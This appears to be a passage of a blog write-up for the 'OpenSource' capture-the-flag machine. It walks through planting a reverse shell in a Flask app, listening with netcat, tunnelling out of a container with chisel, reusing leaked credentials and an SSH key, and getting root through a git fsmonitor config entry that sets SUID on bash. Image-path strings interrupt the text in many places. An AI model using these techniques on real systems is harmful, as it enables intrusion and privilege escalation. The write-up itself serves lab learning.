Command Execution

OpenSouce Foothold Exploit

We’re now going to add another function to the views.py application. This function is going to be a reverse shell that lets it submit our IP address as an argument. I grabbed a Python payload fromPayloadAllTheThings and modified it so that it would work with the existing code. Obviously, I was just copying everything that the Wizard was doing.

def rev_shell(ip):
    import socket,os,pty

We can then go back to Repeater in Burpsuite and add our code to the bottom of the request and resend it. If it comes back with a 200 we should be good, if it errors then remove the changes, send the request to update it and try again.

Burp Suite Repeater

Then start a listener on the port you chose (in my case 1337, because of course).

└──╼ [★]$ sudo nc -lvnp 1337
[sudo] password for haxez:
listening on [any] 1337 ...

Then you visit the application route that you created in your browser and pass it your IP address. Unfortunately, it seems I got a socket error for some reason so I will need to go back and look at the code. Once, I’ve fixed that I will try again.

Error Message

And I spotted my mistake, In the ‘s.connect((ip,10001))’ section, I still had the ‘ip’ in quotation marks. That makes sense. Ok, we now have a shell. Not avery good shell admittidly.

System Enumeration

This is a cool trick, after connecting to the host we can check the IP address and see that it is on a completely different range than the target. For example, the target IP for OpenSource is but the IP returned in the shell is This is a huge sign that we’re inside a container. We can further confirm this by using netcat to connect to the container host on port 22 via the first IP address in that range (like a default gateway I suppose).

1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN qlen 1000
    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00
    inet scope host lo
       valid_lft forever preferred_lft forever
24: eth0@if25: <BROADCAST,MULTICAST,UP,LOWER_UP,M-DOWN> mtu 1500 qdisc noqueue state UP
    link/ether 02:42:ac:11:00:08 brd ff:ff:ff:ff:ff:ff
    inet brd scope global eth0
       valid_lft forever preferred_lft forever

nc 22
SSH-2.0-OpenSSH_7.6p1 Ubuntu-4ubuntu0.7

Chiseling Through

Ok, so we’re on the container. We also know from our nmap scan that there was a port 3000. We can use a program called chisel to port forward the hosts port 3000 through our container so that we can access it locally. First, download the chisel program and use a python webserver to get it onto the docker container. Then on your attack box, start a server.

└──╼ [★]$ ./chisel server -p 8001 --reverse
2023/03/15 09:59:54 server: Reverse tunnelling enabled
2023/03/15 09:59:54 server: Fingerprint PIZtzkgEwf3R2bylwQt/I86a2MUk/1eeKGSkL+nHRAU=
2023/03/15 09:59:54 server: Listening on

Then on thetarget, create a client that connects to your host.

/tmp # ./chisel client R:3000:
2023/03/15 10:17:32 client: Connecting to ws://
2023/03/15 10:17:32 client: Connected (Latency 12.057386ms) - - [15/Mar/2023 10:18:03] "GET / HTTP/1.1" 200 -

We now have a new website which we can access by visiting http://localhost:3000. It looks like a git-style version management portal. I’ve never heard of Gitea before but now I’m going to have to go and research it in my own time.

OpenSource Gitea

We can also see that the application has a login page. However, we don’t appear to have any credentials for it. Perhaps we can find them in the source code we downloaded earlier.

OpenSource Getting User

Gittealogin page

I need to speed this up as I’m supposed to be working but let’s break it down quickly. First, we need to change to a different thing by running git checkout.

└──╼ [★]$ git checkout a76f8f75f7a4a12b706b0cf9c983796fa1985820

Now we can grab the credentials from the settings.json file found in the hidden .vscode directory. We can use these credentials to login to the application.

└──╼ [★]$ cat settings.json
  "python.pythonPath": "/home/dev01/.virtualenvs/flask-app-b5GscEs_/bin/python",
  "http.proxy": "http://dev01:Soulless_Developer#[email protected]:5187/",
  "http.proxyStrictSSL": false
OpenSource Gitea Logged in

Attempting to navigate to the backup repository gives us an error. We need to add the URL to our host file.

OpenSource no route
echo ' opensource.htb' | sudo tee -a /etc/hosts
OpenSource Private key

The developer backed up his home directory including his private key. We can steal this, pop it into a text document, give it 600 permissions and use it to SSH to the server. From here we should be able to grab the user flag to. This has been a long path to get to the user, I hope root is fairly straightforward.

└──╼ [★]$ vim dev.key
└──╼ [★]$ chmod 600 dev.key
└──╼ [★]$ ssh -i dev.key [emailprotected]
The authenticity of host ' (' can't be established.
ECDSA key fingerprint is SHA256:a6VljAI6pLD7/108ls+Bi5y88kWaYI6+V4lTU0KQsQU.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added '' (ECDSA) to the list of known hosts.
Welcome to Ubuntu 18.04.5 LTS (GNU/Linux 4.15.0-176-generic x86_64)

 * Documentation:  https://help.ubuntu.com
 * Management:     https://landscape.canonical.com
 * Support:        https://ubuntu.com/advantage

  System information as of Wed Mar 15 10:36:34 UTC 2023

  System load:  0.03              Processes:              217
  Usage of /:   75.6% of 3.48GB   Users logged in:        0
  Memory usage: 22%               IP address for eth0:
  Swap usage:   0%                IP address for docker0:16 updates can be applied immediately.
9 of these updates are standard security updates.
To see these additional updates run: apt list --upgradable

Last login: Mon May 16 13:13:33 2022 from
dev01@opensource:~$ cat /home/dev01/user.txt

OpenSource Privilege Escalation

I downloaded a copy of pspy64 to the directory of my Python3 webserver. Then I used wget on the OpenSource target gox to download the file. I gave it executable permissions and ran it to see what processes were running. The following process stands out ‘/bin/bash /usr/local/bin/git-sync’.

dev01@opensource:/tmp$ ./pspy64
pspy - version: v1.2.1 - Commit SHA: f9e6a1590a4312b9faa093d8dc84e19567977a6d
     ██▓███    ███  ██▓███ ▓██   ██▓
    ▓██░  ██▒▒██    ▒ ▓██░  ██▒▒██  ██▒
    ▓██░ ██▓▒░ ▓██▄   ▓██░ ██▓▒ ▒██ ██░
    ▒██▄█▓▒ ▒  ▒   ██▒▒██▄█▓▒ ▒ ░ ▐██▓░
    ▒██▒ ░  ░▒███▒▒▒██▒ ░  ░ ░ ██▒▓░
    ▒▓▒░ ░  ░▒ ▒▓▒ ▒ ░▒▓▒░ ░  ░  ██▒▒▒
    ░▒ ░     ░ ░▒  ░ ░░▒ ░     ▓██ ░▒░
    ░░       ░  ░  ░  ░░       ▒ ▒ ░░
                   ░           ░ ░
                               ░ ░
Config: Printing events (colored=true): processes=true | file-system-events=false ||| Scanning for processes every 100ms and on inotify events ||| Watching directories: [/usr /tmp /etc /home /var /opt] (recursive) | [] (non-recursive)
Draining file system events due to startup...
2023/03/15 10:49:01 CMD: UID=0     PID=8943   | /bin/bash /usr/local/bin/git-sync
2023/03/1510:49:01 CMD: UID=0     PID=8944   | /bin/bash /usr/local/bin/git-sync
2023/03/15 10:49:01 CMD: UID=0     PID=8946   | /bin/bash /usr/local/bin/git-sync
2023/03/15 10:49:01 CMD: UID=0     PID=8947   | /usr/lib/git-core/git-remote-http

Let’s take a look at this file. It seems that it is looking for changes in /home/dev01. If there are any changes then it performs a git commit.

dev01@opensource:/tmp$ ls -lash /usr/local/bin/git-sync
4.0K -rwxr-xr-x 1 root root 239 Mar 23  2022 /usr/local/bin/git-sync
dev01@opensource:/tmp$ cat /usr/local/bin/git-sync

cd /home/dev01/

if ! git status --porcelain; then
    echo "No changes"
    day=$(date +'%Y-%m-%d')
    echo "Changes detected, pushing.."
    git add .
    git commit -m "Backup for ${day}"
    git push origin main

According to the official walkthrough, we can abuse this by adding a command to the .git/config file to give the /bin/bash binary SUID permissions so that it will automatically elevate us to root when we run it. Let’s give it a go. The following line needs to be added to the .git/config file, then the fsmonitor command will get executed when git commit is run.

fsmonitor = "chmod 4755 /bin/bash"Changing the config.

And that is that after waiting a moment you can list the ‘/bin/bash’ file and see that it now has the SUID bit set. You need only run the bash command to elevate to root and capture the root flag.

bash-4.4$ ls -laSh /bin/bash
-rwsr-xr-x 1 root root 1.1M Apr 18  2022 /bin/bash
bash-4.4$ bash -p
bash-4.4# whoami

bash-4.4# cat /root/root.txt

OpenSource Review

I had a lot of fun with this one and learnt a lot. I can honestly say though that I wouldn’t have had a clue what to do. The path to the user flag was verycomplicated. I realise the word ‘very’ is unessasary here but itwas VERY complicated. We had to pivot through docker containers andlearn how to use versioning in git. Wow. While I definitely don’t thinkthis was easy, it was fun.